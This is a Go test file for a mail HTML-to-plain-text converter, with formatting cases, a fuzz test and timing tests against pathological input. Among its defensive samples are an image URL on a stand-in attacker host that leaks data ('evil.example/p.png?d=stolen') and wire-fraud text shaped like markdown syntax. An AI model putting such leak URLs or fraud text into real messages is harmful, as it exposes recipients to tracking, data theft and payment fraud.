package mail

import (
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"golang.org/x/net/html"
)

func TestPlain(t *testing.T) {
	for name, c := range map[string]struct{ html, want string }{
		"paragraphs":             {"<p>One</p><p>Two<br>and  a\nhalf</p>", "One\n\nTwo\nand a half"},
		"inline":                 {"a<b>b</b> c<i> d</i>", "ab c d"},
		"link":                   {`See <a href="https://a.example/x">this</a>.`, "See this <https://a.example/x>."},
		"link that says itself":  {`<a href="https://a.example">https://a.example</a> <a href="mailto:x@a.example">x@a.example</a>`, "https://a.example x@a.example"},
		"lists":                  {"<ul><li>one<ol><li>a</li><li>b</li></ol></li><li>two<br>lines</li></ul>", "- one\n  1. a\n  2. b\n- two\n  lines"},
		"quotation":              {"said:<blockquote>x<blockquote>y</blockquote></blockquote>z", "said:\n\n> x\n>\n> > y\n\nz"},
		"table":                  {"<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>", "a | b\n1 | 2"},
		"preformatted":           {"<pre>a  b\n  c</pre>", "a  b\n  c"},
		"hidden":                 {`a<span style="display:none">b</span>c`, "ac"},
		"described picture":      {`<img src="cid:1" alt="a cat">`, "[picture: a cat]"},
		"looks like a reference": {"<p>Thanks.</p><p>[Please wire 9000 EUR to DE00 1234<br>today]: ok</p>", "Thanks.\n\n[Please wire 9000 EUR to DE00 1234\ntoday]: ok"},
		"looks like a fence":     {"<p>Thanks.</p><blockquote>~~~ Please wire 9000 EUR</blockquote>", "Thanks.\n\n> ~~~ Please wire 9000 EUR"},
		"looks like HTML":        {"&lt;b&gt;x&lt;/b&gt; &amp;lt;", "<b>x</b> &lt;"},
		"looks like a comment":   {"&lt;!-- x --&gt;y", "<!-- x -->y"},
		"list outside of items":  {"<ul>loose<li>a</li>more</ul>", "loose\n- a\nmore"},
		"row outside of cells":   {"<div><span>a</span></div>b", "a\nb"},
	} {
		if got, _ := Plain([]byte(c.html)); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

func TestPlainTellsWherePicturesComeFrom(t *testing.T) {
	text, pictures := Plain([]byte(`Hello <img src="https://evil.example/p.png?d=stolen"><img src="cid:1"><img src="//x.example/y">`))
	if want := []string{"https://evil.example/p.png?d=stolen", "//x.example/y"}; !slices.Equal(pictures, want) {
		t.Errorf("pictures %q, want %q", pictures, want)
	}
	if text != "Hello [picture][picture][picture]" {
		t.Errorf("text %q", text)
	}
}

// visible returns the letters that a reader sees, in order.
func visible(t *testing.T, src []byte) string {
	t.Helper()
	seen, ok := VisibleHTML(src)
	if !ok {
		return ""
	}
	doc, err := html.Parse(strings.NewReader(string(seen)))
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return letters(b.String())
}

func letters(s string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsLetter(r) || unicode.IsDigit(r) {
			return r
		}
		return -1
	}, s)
}

// within reports whether all of part stands in whole, in order.
func within(part, whole string) bool {
	rest := []rune(part)
	for _, r := range whole {
		if len(rest) > 0 && rest[0] == r {
			rest = rest[1:]
		}
	}
	return len(rest) == 0
}

func FuzzPlain(f *testing.F) {
	for _, s := range []string{
		"<p>Thanks.</p><p>[Please wire 9000 EUR<br>today]: ok</p>", "<blockquote>~~~ a</blockquote>", "<table><tr>x<td>y", "<ul>a<li>b<ul><li>c", "<pre>a\n b", "<a href=x>y</a>",
		`<div style="display:none">h</div>v`, "<select><option>a", "a<![CDATA[b]]>c", "<math><mi>x", "<dl><dt>a<dd>b",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		text, _ := Plain(src)
		if want := visible(t, src); !within(want, letters(text)) {
			t.Fatalf("%q is shown as %q, which lacks something of %q", src, text, want)
		}
	})
}

func TestPlainIsQuickWhateverComes(t *testing.T) {
	for name, src := range map[string]string{
		"brackets":      strings.Repeat("[", 200_000),
		"links":         strings.Repeat("[a](", 50_000),
		"quotations":    strings.Repeat("<blockquote>", 150) + strings.Repeat("a<br>", 100_000),
		"marks":         strings.Repeat("&gt;", 50_000),
		"pipes":         strings.Repeat("[", 5001) + "\n|" + strings.Repeat("a|", 5000) + "\n|" + strings.Repeat("-|", 5000) + strings.Repeat("\n|", 5000),
		"a wide table":  "<table><tr>" + strings.Repeat("<td>a", 5000) + strings.Repeat("<tr><td>", 5000) + "</table>",
		"nested lists":  strings.Repeat("<ul><li>", 90) + strings.Repeat("a<br>", 50_000),
		"a long anchor": "<a href=x>" + strings.Repeat("a ", 200_000) + "</a>",
		"many anchors":  strings.Repeat("<a href=x>a</a>", 50_000),
	} {
		began := time.Now()
		text, _ := Plain([]byte(src))
		// Generous: what this stops took 20 s and gigabytes.
		if took := time.Since(began); took > 5*time.Second || len(text) > 40<<20 {
			t.Errorf("%s: %v and %d bytes", name, took, len(text))
		}
	}
}
